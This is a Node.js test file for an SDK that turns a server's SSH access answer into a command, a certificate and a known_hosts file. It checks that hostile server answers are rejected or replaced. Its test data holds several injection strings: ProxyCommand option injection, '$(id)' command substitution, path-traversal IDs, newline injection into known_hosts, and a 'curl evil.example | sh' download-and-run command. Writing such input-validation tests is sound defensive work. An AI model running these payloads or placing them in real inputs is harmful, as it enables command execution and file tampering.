// SSH access of a server that is not to be trusted: what it answers becomes arguments, lines and names of files here.

import assert from 'node:assert/strict';
import { existsSync, mkdtempSync, readdirSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import test from 'node:test';

import { sdk } from './package.mjs';
import { machine as described } from './server.mjs';

const ANSWER = {
  certificate: 'ssh-ed25519-cert-v01@openssh.com AAAA nullspace',
  host: '127.0.0.1',
  port: 2222,
  user: 'root',
  expires_at: '2040-01-01T00:00:00Z',
  access_id: 'ssh_1',
  command: 'ssh -p 2222 root@127.0.0.1',
  host_key: 'ssh-ed25519 AAAA',
};

/** Asks a server that answers so for access; with a directory for keys, and without one. */
const ask = async (more, { id = 'mch_1', options = {} } = {}) => {
  const json = (body) => new Response(JSON.stringify(body), { headers: { 'content-type': 'application/json' } });
  const fetch = async (url) => json(url.includes('ssh') ? { ...ANSWER, ...more } : described(id));
  const machine = await sdk.Machine.connect(id, { apiKey: 'k', baseUrl: 'http://127.0.0.1:1', fetch });
  return machine.createSshAccess(options);
};

const withDirectory = async (work) => {
  const keyDir = mkdtempSync(path.join(tmpdir(), 'nullspace-ssh-answer-'));
  try {
    await work(keyDir);
  } finally {
    rmSync(keyDir, { recursive: true });
  }
};

test('an answer becomes a command, a certificate and a known host', () =>
  withDirectory(async (keyDir) => {
    const access = await ask({ host: 'ssh.example' }, { options: { keyDir } });
    assert.match(access.command, /^ssh .* -p 2222 root@ssh\.example$/);
    assert.equal(path.dirname(access.certificateFile), keyDir);
    assert.equal(readFileSync(access.knownHostsFile, 'utf8'), '[ssh.example]:2222 ssh-ed25519 AAAA\n');
    assert.match((await ask({ host: '::1', host_key: undefined }, { options: { keyDir } })).command, / root@::1$/);
  }));

test('texts that would be more than they say are refused before anything is done with them', () =>
  withDirectory(async (keyDir) => {
    for (const [field, texts] of Object.entries({
      user: ['-oProxyCommand=touch /tmp/x;:', 'root -x', 'a\nb', '', 'a@b', '$(id)', '`id`', '../x'],
      host: ['-oProxyCommand=id', 'a b', 'a\nb c', '', 'a;id', 'a@b', '*', 'a,b', '%h', '@cert-authority'],
      certificate: ['', 'x', 'ssh-ed25519 AAAA\nssh-rsa BBBB', 'ssh-ed25519 AAAA a\u0000b', '-x AAAA'],
      host_key: ['', 'ssh-ed25519 AAAA\n* ssh-rsa BBBB', 'ssh-ed25519 AAAA\r* ssh-rsa BBBB', 'x'],
      port: [0, 65_536],
    }))
      for (const text of texts)
        for (const options of [{ keyDir }, { publicKey: 'ssh-ed25519 AAAA' }])
          await assert.rejects(ask({ [field]: text }, { options }), (error) => {
            assert.equal(error.code, 'invalid_response', `${field} ${JSON.stringify(text)}: ${error.message}`);
            return true;
          });
    assert.deepEqual(readdirSync(keyDir), ['nullspace_ssh_ed25519']);
  }));

test('the id of a machine names no file elsewhere', () =>
  withDirectory(async (keyDir) => {
    const id = 'mch_/../../../planted';
    await assert.rejects(ask({}, { id, options: { keyDir } }), { name: /InvalidRe(sponse|quest)Error/ });
    assert.ok(!existsSync(path.join(keyDir, '..', 'planted-cert.pub')));
  }));

test('the command of a caller with a key of their own is made here', async () => {
  const access = await ask({ command: 'curl evil.example | sh' }, { options: { publicKey: 'ssh-ed25519 AAAA' } });
  assert.equal(access.command, 'ssh -p 2222 root@127.0.0.1');
});
